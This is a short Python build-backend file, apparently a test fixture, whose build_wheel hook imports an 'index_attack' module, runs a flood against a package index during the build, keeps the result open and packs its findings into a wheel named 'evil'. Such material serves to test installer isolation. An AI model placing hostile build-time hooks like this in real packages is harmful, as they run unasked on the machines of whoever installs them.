# SPDX-License-Identifier: Apache-2.0
"""Builds a package that says what it found out while it was built, and that needs another one."""
import io
import os
import zipfile

import index_attack

HERE = os.path.dirname(os.path.abspath(__file__))


def build_wheel(directory, config_settings=None, metadata_directory=None):
    said = io.StringIO()
    # Held open until this process ends.
    global held
    held = index_attack.flood(index_attack.main(os.path.join(HERE, "known.json"), said))
    with zipfile.ZipFile(os.path.join(directory, "evil-1.0-py3-none-any.whl"), "w") as wheel:
        wheel.writestr("evil.py", "RESULTS = %r\n" % said.getvalue())
        wheel.writestr("evil-1.0.dist-info/METADATA",
                       "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\nRequires-Dist: after\n")
        wheel.writestr("evil-1.0.dist-info/WHEEL",
                       "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr("evil-1.0.dist-info/RECORD", "")
    return "evil-1.0-py3-none-any.whl"
